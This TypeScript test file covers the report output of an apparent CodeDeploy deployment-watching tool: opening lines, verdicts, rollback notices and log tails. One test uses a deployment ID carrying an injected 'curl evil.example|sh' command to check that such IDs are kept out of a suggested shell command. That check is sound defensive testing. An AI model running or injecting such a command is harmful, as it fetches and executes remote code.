import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import type { Deployment } from '../../src/deployment/model.ts'
import type { Ending } from '../../src/deployment/verdict.ts'
import { annotations } from '../../src/report/annotations.ts'
import { deploymentLines, endedBeforeText, openingLines, readyLine } from '../../src/report/opening-lines.ts'
import type { StepFacts } from '../../src/report/outcome.ts'
import { summary } from '../../src/report/summary.ts'
import { logTails, verdictLines } from '../../src/report/verdict-lines.ts'
import { clause } from '../../src/values/clause.ts'
import {
  aDeployment,
  aFailedEvent,
  aFailedInstance,
  anInstance,
  anOutcome,
  aSnapshot,
  scriptFailed,
} from '../support/deployments.ts'
import { plain } from '../support/log.ts'
import { outcomes } from '../support/outcomes/outcomes.ts'

const options = { deploymentId: 'd-1', region: 'eu-central-1' }

test('the opening lines name deployment, region and console', () => {
  const lines = openingLines({ ...options, consoleUrl: 'https://console.aws.amazon.com/x' })
  assert.deepEqual(lines.map(plain), [
    'Watching deployment d-1 in eu-central-1',
    'Console: https://console.aws.amazon.com/x',
  ])
})

test('the opening lines say why the deployment was chosen, and the next ones how long ago it ended', () => {
  const why = clause`it was created last in its deployment group`
  const lines = openingLines({ ...options, consoleUrl: 'https://console.aws.amazon.com/x', why })
  assert.equal(plain(lines[2] ?? []), 'Chosen because it was created last in its deployment group.')
  assert.equal(endedBeforeText(627_000_000), 'The deployment ended 7 d 6 h ago, before the watch began.')
})

test('the opening lines leave out an unknown console', () => {
  assert.equal(openingLines({ ...options, consoleUrl: undefined }).length, 1)
})

const firstAnswers: readonly (readonly [deployment: Partial<Deployment>, lines: readonly string[]])[] = [
  [{}, ['']],
  [
    {
      applicationName: 'shop',
      deploymentGroupName: 'production',
      deploymentConfigName: 'CodeDeployDefault.OneAtATime',
      computePlatform: 'Server',
      deploymentType: 'IN_PLACE',
      creator: 'user',
      revision: {
        type: 'GitHub',
        repository: 'example/shop',
        commitId: '0123456789abcdef0123456789abcdef01234567',
      },
    },
    [
      'application shop · group production · CodeDeployDefault.OneAtATime · Server IN_PLACE · revision example/shop@0123456789ab · by user',
    ],
  ],
  [{ revision: { type: 'GitHub' } }, ['revision GitHub@unknown commit']],
  [{ revision: { type: 'GitHub', commitId: 'not-a-commit-id' } }, ['revision GitHub@not-a-commit-id']],
  [{ revision: { type: 'S3', bucket: 'b', key: 'k/x.zip' } }, ['revision s3://b/k/x.zip']],
  [{ revision: { type: 'AppSpecContent' } }, ['revision AppSpec content']],
  [{ revision: { type: 'other', typeName: 'Tape' } }, ['revision Tape']],
  [
    { creator: 'codeDeployRollback', rollbackInfo: { rollbackTriggeringDeploymentId: 'd-0' } },
    ['by codeDeployRollback', 'This deployment rolls back deployment d-0.'],
  ],
]
for (const [deployment, lines] of firstAnswers) {
  test(`the first answer is logged as ${lines.join(' / ') || 'nothing'}`, () => {
    assert.deepEqual(deploymentLines(aDeployment(deployment)).map(plain), lines)
  })
}

const waits: readonly (readonly [deployment: Partial<Deployment>, then: string])[] = [
  [{ readyAction: 'STOP_DEPLOYMENT', readyWaitMinutes: 60 }, 'CodeDeploy stops the deployment after 1 h.'],
  [
    { readyAction: 'CONTINUE_DEPLOYMENT', readyWaitMinutes: 5 },
    'CodeDeploy reroutes traffic by itself after 5 min.',
  ],
  [{}, 'CodeDeploy reroutes traffic by itself after the wait time set in the deployment group.'],
]
for (const [deployment, then] of waits) {
  test(`the line about a ready deployment says what a person must do, and: ${then}`, () => {
    const line = plain(readyLine(aDeployment(deployment)))
    assert.ok(
      line.includes(
        'aws deploy continue-deployment --deployment-id d-ABCDEF123 --deployment-wait-type READY_WAIT.',
      ),
    )
    assert.ok(line.includes(then), line)
  })
}

test('an ID that a shell would run is not part of the command that reroutes traffic', () => {
  const line = plain(readyLine(aDeployment({ id: 'd-1;curl evil.example|sh' })))
  assert.match(line, / --deployment-id ID --deployment-wait-type READY_WAIT\. /)
})

const failed = aFailedInstance('i-1', aFailedEvent('Install', 1))
const endings: readonly (readonly [ending: Ending, status: string, failed: boolean, words: string])[] = [
  [{ kind: 'finished' }, 'Succeeded', false, 'succeeded'],
  [{ kind: 'finished' }, 'Failed', true, 'failed'],
  [{ kind: 'finished' }, 'Failed', false, 'failed'],
  [{ kind: 'finished' }, 'Stopped', true, 'was stopped'],
  [{ kind: 'finished' }, 'Succeeded', true, 'succeeded, but 1 target failed'],
  [{ kind: 'failed-fast' }, 'InProgress', true, 'is still running, but 1 target failed'],
  [{ kind: 'ready' }, 'Ready', false, 'is ready for traffic'],
  [{ kind: 'ready' }, 'Ready', true, 'is still running, but 1 target failed'],
  [{ kind: 'shifted' }, 'InProgress', false, 'has moved all traffic to the new version'],
  [{ kind: 'shifted' }, 'InProgress', true, 'is still running, but 1 target failed'],
  [{ kind: 'timed-out', minutes: 1 }, 'InProgress', false, 'was still running when the timeout was reached'],
  [{ kind: 'cancelled' }, 'InProgress', true, 'was still running when the watch was cancelled'],
  [{ kind: 'error', code: 'x', message: 'y' }, 'InProgress', false, ': the result could not be determined'],
]
for (const [ending, status, hasFailed, words] of endings) {
  test(`the verdict after ${ending.kind}, ${status}${hasFailed ? ' with a failed target' : ''} reads: ${words}`, () => {
    const snapshot = aSnapshot({ status }, [hasFailed ? failed : anInstance('i-1')])
    const counts = hasFailed ? '1 Failed' : '1 Succeeded'
    assert.equal(
      plain(verdictLines(anOutcome({ ending, snapshot }))[0] ?? []),
      `Deployment d-ABCDEF123 ${words} · 1 target: ${counts} · watched for 1 min 15 s`.replace(' :', ':'),
    )
  })
}

test('if the deployment succeeded although the step failed, the log says that fail-on decided', () => {
  const snapshot = aSnapshot({ status: 'Succeeded' }, [failed])
  assert.deepEqual(
    verdictLines(anOutcome({ snapshot })).map(plain)[1],
    'fail-on: instance makes this step fail: CodeDeploy counts the deployment as a success, but at least one target failed.',
  )
  assert.equal(verdictLines(anOutcome({ snapshot, failOn: 'deployment' })).length, 1)
})

for (const [terminationWaitMinutes, until] of [
  [60, ' until 2026-03-02 10:01:00 UTC'],
  [undefined, ''],
] as const) {
  test(`a watch that ends before the original is terminated reports the wait${until}`, () => {
    const snapshot = aSnapshot({ terminationWaitStarted: true, terminationWaitMinutes }, [anInstance('i-1')])
    assert.equal(
      plain(verdictLines(anOutcome({ ending: { kind: 'shifted' }, snapshot }))[1] ?? []),
      `CodeDeploy waits${until} before it terminates the original instances. An alarm or a person can still stop the deployment.`,
    )
  })
}

const noTargets =
  'No targets: nothing was deployed. Check that instances match the tags or Auto Scaling groups of the deployment group.'
test('a success without targets has a warning in log and annotations', () => {
  const outcome = anOutcome({ snapshot: aSnapshot({ status: 'Succeeded' }) })
  assert.equal(plain(verdictLines(outcome)[1] ?? []), noTargets)
  assert.deepEqual(annotations(outcome), [{ level: 'warning', title: 'No targets', message: noTargets }])
})

for (const [what, facts] of [
  ['that CodeDeploy counts', { snapshot: aSnapshot({ status: 'Succeeded', overview: { Succeeded: 1 } }) }],
  ['of a failure', { snapshot: aSnapshot({ status: 'Failed' }) }],
  ['that were never read', {}],
] as const) {
  test(`missing targets ${what} have no warning of their own`, () => {
    assert.equal(anOutcome(facts).hasNoTargets, false)
  })
}

test('the verdict about a deployment that never appeared says that it did not', () => {
  const lines = verdictLines(outcomes['never-appeared'] ?? assert.fail()).map(plain)
  assert.deepEqual(lines, ['The deployment did not appear before the watch ended · watched for 1 h'])
})

const unseen: readonly (readonly [ending: Ending, words: string])[] = [
  [{ kind: 'timed-out', minutes: 1 }, ' could not be read before the watch ended · watched for 1 min 15 s'],
  [{ kind: 'cancelled' }, ' could not be read before the watch ended · watched for 1 min 15 s'],
  [{ kind: 'error', code: 'x', message: 'y' }, ': the result could not be determined'],
  [{ kind: 'error', code: 'InvalidInput', message: 'y' }, ': the inputs are invalid'],
]
for (const [ending, words] of unseen) {
  test(`the verdict after ${ending.kind} before the first answer reads: ${words}`, () => {
    assert.deepEqual(verdictLines(anOutcome({ ending })).map(plain), [`Deployment d-ABCDEF123${words}`])
  })
}

describe('the verdict of a step that knows no deployment', () => {
  for (const [code, verdict] of [
    ['InvalidInput', 'The inputs are invalid'],
    ['AccessDeniedException', 'The result could not be determined'],
  ] as const) {
    test(`reads after ${code}: ${verdict}`, () => {
      const ending = { kind: 'error', code, message: 'why' } as const
      const lines = verdictLines(anOutcome({ ending, deploymentId: undefined }))
      assert.deepEqual(lines.map(plain), [verdict])
    })
  }
})

const followed: readonly (readonly [name: string, line: string])[] = [
  ['rolled-back', 'Rollback d-ROLLBACK1 succeeded: the previous revision is back'],
  ['ecs', 'Rollback d-ROLLBACK1 was started, but not followed'],
]
for (const [name, line] of followed) {
  test(`the verdict is followed by: ${line}`, () => {
    assert.equal(verdictLines(outcomes[name] ?? assert.fail()).map(plain)[1], line)
  })
}

for (const [answer, line] of [
  [undefined, 'It was stopped.'],
  ['Pending', 'It was stopped. CodeDeploy: Pending'],
] as const) {
  test(`the verdict on a deployment that was never read is followed by what the action did: ${line}`, () => {
    const outcome = anOutcome({ ending: { kind: 'cancelled' }, stop: { text: 'It was stopped.', answer } })
    assert.equal(verdictLines(outcome).map(plain)[1], line)
  })
}

describe('log and failing message together say once', () => {
  const stop = { text: 'The deployment was stopped.', answer: 'Pending' }
  const open = aSnapshot({ status: 'Stopped' }, [anInstance('i-1')])
  const broken = aSnapshot({ status: 'Stopped' }, [failed])
  const said = (facts: Partial<StepFacts>): string => {
    const outcome = anOutcome(facts)
    return [...verdictLines(outcome).map(plain), ...annotations(outcome).map(({ message }) => message)].join(
      '\n',
    )
  }
  const timedOut = { kind: 'timed-out', minutes: 2 } as const
  for (const [what, snapshot] of [
    ['no target failed', open],
    ['a target failed', broken],
  ] as const) {
    test(`that the watch was cancelled, and what the action then did, if ${what}`, () => {
      const text = said({ ending: { kind: 'cancelled' }, snapshot, stop })
      assert.equal(text.split(' cancelled').length, 2, text)
      assert.equal(text.split('The deployment was stopped.').length, 2, text)
      assert.match(
        text,
        /Deployment d-ABCDEF123 was last seen as Stopped\. The deployment was stopped\. CodeDeploy: Pending$/m,
      )
    })

    test(`that the timeout was reached, if ${what}`, () => {
      const text = said({ ending: timedOut, snapshot })
      assert.equal(text.split('the timeout').length, 2, text)
      assert.match(text, /After 2 min \(timeout-minutes\), deployment d-ABCDEF123 was last seen as Stopped$/m)
    })
  }

  test('that the watch was cancelled before the first response', () => {
    assert.equal(said({ ending: { kind: 'cancelled' } }).split('cancelled').length, 2)
  })
})

test('log tails are printed for each cause that has one, the root cause first, then the warnings', () => {
  const targets = [
    aFailedInstance('i-1', aFailedEvent('Install', 9, { message: 'late', logTail: 'one\n##[error]\n' })),
    aFailedInstance('i-2', aFailedEvent('Install', 1, scriptFailed({ logTail: 'two\r\nthree' }))),
    aFailedInstance('i-3', aFailedEvent('Install', 5, { message: 'silent' })),
    anInstance('i-4', {
      lifecycleEvents: [aFailedEvent('ApplicationStop', 1, scriptFailed({ logTail: 'four' }))],
    }),
  ]
  assert.deepEqual(logTails(anOutcome({ snapshot: aSnapshot({ status: 'Failed' }, targets) })), [
    {
      title: '   1:15  Log tail of scripts/start_server.sh in Install on i-2',
      time: '   1:15  ',
      lines: ['two', 'three'],
    },
    {
      title: '   1:15  Log tail of UnknownError in Install on i-1',
      time: '   1:15  ',
      lines: ['one', '## [error]'],
    },
    {
      title: '   1:15  Log tail of scripts/start_server.sh in ApplicationStop on i-4',
      time: '   1:15  ',
      lines: ['four'],
    },
  ])
})

test('a log tail that names the event and nothing else is neither in the log nor in the summary', () => {
  const tailsOf = (logTail: string) => {
    const event = aFailedEvent('ValidateService', 1, scriptFailed({ errorCode: 'ScriptMissing', logTail }))
    const outcome = anOutcome({ snapshot: aSnapshot({ status: 'Failed' }, [aFailedInstance('i-1', event)]) })
    return [logTails(outcome).length, summary(outcome).includes('Log tail')]
  }
  assert.deepEqual(tailsOf('LifecycleEvent - ValidateService\n'), [0, false])
  assert.deepEqual(tailsOf('LifecycleEvent - ValidateService\nScript - a.sh\n'), [1, true])
  assert.deepEqual(tailsOf('LifecycleEvent - a script wrote this\n'), [1, true])
})

test('a log tail without a script is named by its error code', () => {
  const target = aFailedInstance('i-1', {
    name: 'Install',
    status: 'Failed',
    diagnostics: { errorCode: 'ScriptFailed', logTail: 'x' },
  })
  const [tail] = logTails(anOutcome({ snapshot: aSnapshot({ status: 'Failed' }, [target]) }))
  assert.equal(tail?.title, '   1:15  Log tail of ScriptFailed in Install on i-1')
})

test('log tails beyond the limit are counted', () => {
  const targets = Array.from({ length: 50 }, (_, index) =>
    aFailedInstance(`i-${index}`, aFailedEvent('Install', index, { message: `${index}`, logTail: 'x' })),
  )
  const outcome = anOutcome({ snapshot: aSnapshot({ status: 'Failed' }, targets) })
  assert.equal(logTails(outcome).length, 20)
  assert.equal(
    verdictLines(outcome).map(plain).at(-1),
    '30 more log tails in the report file (output report-path).',
  )
})
